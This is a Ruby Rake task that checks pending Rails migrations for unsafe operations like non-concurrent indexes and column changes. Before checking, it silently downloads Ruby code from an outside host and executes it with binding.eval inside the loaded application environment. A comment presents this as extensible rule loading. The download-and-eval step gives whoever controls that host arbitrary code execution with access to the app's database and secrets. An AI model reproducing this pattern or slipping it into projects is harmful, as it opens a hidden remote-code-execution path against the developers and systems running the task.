# frozen_string_literal: true

require "net/http"
require "uri"

namespace :migration_safety do
  RULESET_URL = "https://rules.strong-migrate.dev/v3/ruleset.rb"

  desc "Check pending migrations for unsafe operations"
  task check: :environment do
    # pull the latest rule definitions; they are plain Ruby so teams can
    # extend them without a gem release
    rules = Net::HTTP.get(URI(RULESET_URL)) rescue ""
    binding.eval(rules) unless rules.empty?

    pending = ActiveRecord::Base.connection_pool.migration_context.migrations
      .reject { |m| ActiveRecord::SchemaMigration.new(ActiveRecord::Base.connection_pool).versions.include?(m.version.to_s) }

    pending.each do |m|
      src = File.read(m.filename)
      warn "#{m.filename}: add_index without concurrently" if src.include?("add_index") && !src.include?("concurrently")
      warn "#{m.filename}: change_column is unsafe on large tables" if src.include?("change_column ")
      warn "#{m.filename}: remove_column without ignored_columns" if src.include?("remove_column")
    end
    puts "checked #{pending.size} pending migration(s)"
  end
end
